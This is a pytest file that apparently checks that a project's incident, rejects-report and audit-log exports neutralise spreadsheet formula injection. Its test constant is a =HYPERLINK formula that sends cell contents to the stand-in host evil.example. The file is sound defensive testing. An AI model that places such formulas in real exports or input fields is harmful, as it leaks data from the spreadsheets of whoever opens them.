"""No export carries a live spreadsheet formula (issue 22, item 2): incidents (CSV, Excel),
the rejects report and the audit log, opened as text and with openpyxl; the stored value stays
as the person gave it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from lawangjabo.incidents.analytics import Filters
from lawangjabo.incidents.files import RowReject, export_incidents, rejects_csv
from lawangjabo.incidents.store import IncidentStore, NewIncident
from lawangjabo.sheets import FORMULA_STARTS, csv_text, neutral, xlsx_bytes
from lawangjabo.storage import audit as audit_log
from lawangjabo.storage.db import Database

T0 = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1, "click me")'
EVERYTHING = Filters(T0 - timedelta(days=1), T0 + timedelta(days=1))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_that_would_start_a_formula_gets_an_apostrophe(start: str) -> None:
    assert neutral(f"{start}1+1") == f"'{start}1+1"


def test_other_values_are_left_alone() -> None:
    for value in ("Kebakaran rumah", "112-0001", "", " =not first", -2.99, 7, None):
        assert neutral(value) == value


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_incident_exports_write_the_description_as_text(store: IncidentStore) -> None:
    [incident_id] = store.insert(
        [NewIncident(T0, "kemacetan", "P2", -2.99, 104.76, source="feed:dishub",
                     description=EVIL, external_id="@SUM(1+1)")], "feed"
    )  # fmt: skip
    [row] = _rows(export_incidents(store, EVERYTHING, "csv").decode())
    assert row["description"] == "'" + EVIL and row["external_id"] == "'@SUM(1+1)"
    assert float(row["lat"]) == -2.99  # a negative number stays a number
    book = load_workbook(io.BytesIO(export_incidents(store, EVERYTHING, "xlsx")))
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert cells["description"].value == "'" + EVIL and cells["description"].data_type == "s"
    assert cells["lat"].value == -2.99 and cells["lat"].data_type == "n"
    assert isinstance(cells["occurred_at (Asia/Jakarta)"].value, datetime)
    assert cells["occurred_at (Asia/Jakarta)"].value == datetime(2026, 11, 30, 19, 0)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    stored = store.get(incident_id)
    assert stored is not None and stored["description"] == EVIL  # kept as given


def test_openpyxl_alone_would_write_a_formula() -> None:
    """Why the Excel writer neutralises: openpyxl stores such a string as a formula."""
    book = Workbook()
    book.active.append([EVIL])
    out = io.BytesIO()
    book.save(out)
    assert load_workbook(out).worksheets[0]["A1"].data_type == "f"
    ours = load_workbook(io.BytesIO(xlsx_bytes(["x"], [[EVIL]]))).worksheets[0]["A2"]
    assert ours.data_type == "s" and ours.value == "'" + EVIL


def test_rejects_report_and_any_table_write_text() -> None:
    report = rejects_csv([RowReject(1, "=field", "-reason quoting @them")])
    assert _rows(report) == [{"row": "1", "field": "'=field", "reason": "'-reason quoting @them"}]
    assert _rows(csv_text(["+a"], [["\tb"]])) == [{"'+a": "'\tb"}]


def test_the_audit_export_neutralises_a_user_name_typed_at_sign_in(tmp_path: Path) -> None:

    db = Database(tmp_path / "audit.duckdb")
    audit_log.append(db, T0, EVIL, "login_failed", {"address": "127.0.0.1"})
    frame = audit_log.entries(db, T0 - timedelta(days=1))
    [row] = _rows(audit_log.csv_export(frame, "Asia/Jakarta"))
    assert row["actor"] == "'" + EVIL and row["happened_at"].startswith("2026-11-30 19:00")
    assert frame["actor"][0] == EVIL  # stored as it was typed
